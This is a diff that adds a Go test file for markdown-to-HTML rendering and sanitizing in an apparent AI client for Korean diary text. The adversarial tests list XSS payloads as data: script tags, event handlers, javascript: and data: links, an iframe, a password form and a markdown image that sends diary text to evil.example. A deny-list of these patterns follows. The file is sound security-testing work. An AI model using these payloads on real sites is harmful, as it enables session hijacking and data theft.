@@ -0,0 +1,64 @@
+package aiclient
+
+import (
+	"strings"
+	"testing"
+)
+
+func TestRenderMarkdown(t *testing.T) {
+	got := RenderMarkdown("## 오늘의 한마디\n\n**잘했어요** 그리고 *천천히*\n\n- 하나\n- 둘")
+	for _, want := range []string{"<h2>오늘의 한마디</h2>", "<strong>잘했어요</strong>", "<em>천천히</em>", "<li>하나</li>"} {
+		if !strings.Contains(got, want) {
+			t.Errorf("RenderMarkdown() = %q, want %q", got, want)
+		}
+	}
+}
+
+func TestRenderMarkdownAdversarial(t *testing.T) {
+	tests := []struct {
+		name  string
+		input string
+	}{
+		{name: "script", input: "좋은 하루<script>alert(1)</script>"},
+		{name: "script block", input: "<script>\nfetch('/api/diary')\n</script>"},
+		{name: "event handler", input: `<p onclick="alert(1)">눌러봐</p>`},
+		{name: "img onerror", input: `<img src=x onerror=alert(1)>`},
+		{name: "markdown image", input: "![x](https://evil.example/leak?d=비밀일기)"},
+		{name: "javascript link", input: "[눌러봐](javascript:alert(1))"},
+		{name: "encoded javascript link", input: "[눌러봐](jav&#x61;script:alert(1))"},
+		{name: "data link", input: "[눌러봐](data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==)"},
+		{name: "iframe", input: `<iframe src="https://evil.example"></iframe>`},
+		{name: "style", input: `<style>body{display:none}</style><div style="position:fixed">가짜 로그인</div>`},
+		{name: "form", input: `<form action="https://evil.example"><input name="password"></form>`},
+		{name: "svg", input: `<svg onload=alert(1)><use href="#x"/></svg>`},
+		{name: "broken tag", input: `<a href="https://ok.example" <script>alert(1)</script>`},
+	}
+	forbidden := []string{"<script", "onclick", "onerror", "onload", "<img", "javascript:", "data:", "<iframe", "<style", "style=", "<form", "<input", "<svg", "evil.example/leak"}
+	for _, tt := range tests {
+		t.Run(tt.name, func(t *testing.T) {
+			got := strings.ToLower(RenderMarkdown(tt.input))
+			for _, f := range forbidden {
+				if strings.Contains(got, f) {
+					t.Errorf("RenderMarkdown(%q) = %q, should not contain %q", tt.input, got, f)
+				}
+			}
+		})
+	}
+}
+
+func TestRenderMarkdownLink(t *testing.T) {
+	got := RenderMarkdown("[상담 안내](https://www.mohw.go.kr)")
+	for _, want := range []string{`href="https://www.mohw.go.kr"`, "nofollow", "noreferrer", `target="_blank"`} {
+		if !strings.Contains(got, want) {
+			t.Errorf("RenderMarkdown() = %q, want %q", got, want)
+		}
+	}
+}
+
+func TestSanitizeHTML(t *testing.T) {
+	got := SanitizeHTML(`<ol><li onmouseover="alert(1)">Go 기초</li><li><script>alert(1)</script>SQL</li></ol>`)
+	want := "<ol><li>Go 기초</li><li>SQL</li></ol>"
+	if got != want {
+		t.Errorf("SanitizeHTML() = %q, want %q", got, want)
+	}
+}